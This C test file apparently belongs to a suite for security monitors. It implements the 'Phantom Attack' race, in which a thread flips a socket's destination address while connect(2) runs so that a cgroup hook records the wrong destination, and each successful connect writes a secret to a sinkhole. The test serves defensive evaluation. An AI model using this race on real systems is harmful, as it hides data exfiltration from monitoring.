// SPDX-License-Identifier: Apache-2.0
/*
 * Trick: A thread flips the address between loopback and the network while it is connected to.
 * Known from: "Phantom Attack" (DEF CON 29), which did it to connect(2).
 * First: connect at entry and exit
 * Second: the cgroup hook's copy of the address; the sinkhole's record
 */
#include "trick.h"
#include <pthread.h>

#define TRIES 20000

static struct sockaddr_in to;
static in_addr_t network;

static void *flip(void *unused)
{
	volatile in_addr_t *address = &to.sin_addr.s_addr;

	for (;;) {
		*address = network;
		*address = htonl(INADDR_LOOPBACK);
	}
	return unused;
}

int main(void)
{
	pthread_t thread;

	to = sink(8080);
	network = to.sin_addr.s_addr;
	pthread_create(&thread, NULL, flip, NULL);
	for (int i = 0; i < TRIES; i++) {
		int fd = socket(AF_INET, SOCK_STREAM, 0);

		if (!connect(fd, (struct sockaddr *)&to, sizeof(to))) {
			dprintf(fd, "%s", secret());
			finish(fd);
			performed();
		}
		close(fd);
	}
	errx(1, "the race was never won");
}
